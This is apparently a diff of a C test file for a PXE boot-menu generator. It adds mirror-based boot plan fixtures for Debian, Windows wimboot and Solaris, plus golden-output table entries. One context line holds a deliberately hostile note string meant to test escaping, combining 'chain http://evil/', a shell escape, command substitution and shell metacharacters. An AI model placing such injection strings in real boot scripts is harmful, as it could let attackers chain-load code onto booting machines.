@@ -101,6 +101,50 @@ static const struct pxed_plan second = {
     .n_initrds = 1,
 };
 static const struct pxed_plan alone = {.how = PXED_HOW_MULTIBOOT, .kernel = S("os/x-1/core.elf")};
+/* The image's files come from a mirror, the answers from here. */
+#define MIRROR S("http://mirror.example.org/pxe/")
+static const struct pxed_plan mirrored = {
+    .how = PXED_HOW_LINUX,
+    .kernel = S("os/debian-12/linux"),
+    .args = S("url=" URL "s/00112233445566778899aabbccddeeff/hosts/52-54-00-aa-00-30/preseed.cfg"),
+    .initrds = {{S("os/debian-12/initrd.gz"), {0}}, {S("os/debian-12/more.gz"), {0}}},
+    .n_initrds = 2,
+    .images = MIRROR,
+    .elsewhere = 7,
+};
+/* Its last initrd uses up the right: it stays here. */
+static const struct pxed_plan mirrored_but_last = {
+    .how = PXED_HOW_LINUX,
+    .kernel = S("os/x-1/linux"),
+    .initrds = {{S("os/x-1/a.img"), {0}}, {S("os/x-1/b.img"), {0}}},
+    .n_initrds = 2,
+    .images = S("http://10.9.9.9/"),
+    .elsewhere = 3,
+};
+static const struct pxed_plan mirrored_on_a_port = {
+    .how = PXED_HOW_LINUX,
+    .kernel = S("os/x-1/linux"),
+    .images = S("http://10.9.9.9:8080/boot/"),
+    .elsewhere = 1,
+};
+static const struct pxed_plan mirrored_wimboot = {
+    .how = PXED_HOW_WIMBOOT,
+    .kernel = S("os/wimboot"),
+    .initrds = {{S("os/windows-2022-x64/sources/boot.wim"), {0}},
+                {S("s/00112233445566778899aabbccddeeff/hosts/08-00-27-b2-40-3e/unattend.xml"), S("unattend.xml")}},
+    .n_initrds = 2,
+    .images = MIRROR,
+    .elsewhere = 2,
+};
+static const struct pxed_plan mirrored_modules = {
+    .how = PXED_HOW_MULTIBOOT,
+    .kernel = S("os/solaris-11/unix"),
+    .args = S("-B install=1"),
+    .initrds = {{S("os/solaris-11/x86.microroot"), S("type=rootfs")}},
+    .n_initrds = 1,
+    .images = MIRROR,
+    .elsewhere = 3,
+};
 static const struct pxed_plan hostile = {
     .how = PXED_HOW_LOCAL,
     .note = S("a\nexit\r\nchain http://evil/ || shell ${net0/mac} \"q\" 'r' \\ # ; & $(x) `y` \x7f\xc3\xa9 \t end"),
@@ -186,6 +230,21 @@ static const struct {
     {"packed.gpxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &packed},
     {"packed.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &packed},
     {"hostile-args.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &hostile_args},
+    {"mirror.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &mirrored},
+    {"mirror.gpxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &mirrored},
+    {"mirror.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &mirrored},
+    {"mirror.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &mirrored},
+    {"mirror.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &mirrored},
+    {"mirror-but-last.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &mirrored_but_last},
+    {"mirror-but-last.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &mirrored_but_last},
+    {"mirror-but-last.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &mirrored_but_last},
+    {"mirror-port.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &mirrored_on_a_port},
+    {"bare.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &mirrored_on_a_port},    /* no port in GRUB's names of servers */
+    {"bare.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &mirrored_on_a_port}, /* nor anything but TFTP */
+    {"mirror-wimboot.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &mirrored_wimboot},
+    {"mirror-modules.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &mirrored_modules},
+    {"mirror-modules.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &mirrored_modules},
+    {"mirror-modules.grub", PXED_LOADER_GRUB, PXED_FW_BIOS, &mirrored_modules},
 };
 
 static struct pxed_slice read_golden(const char *name, char *text, size_t size) {
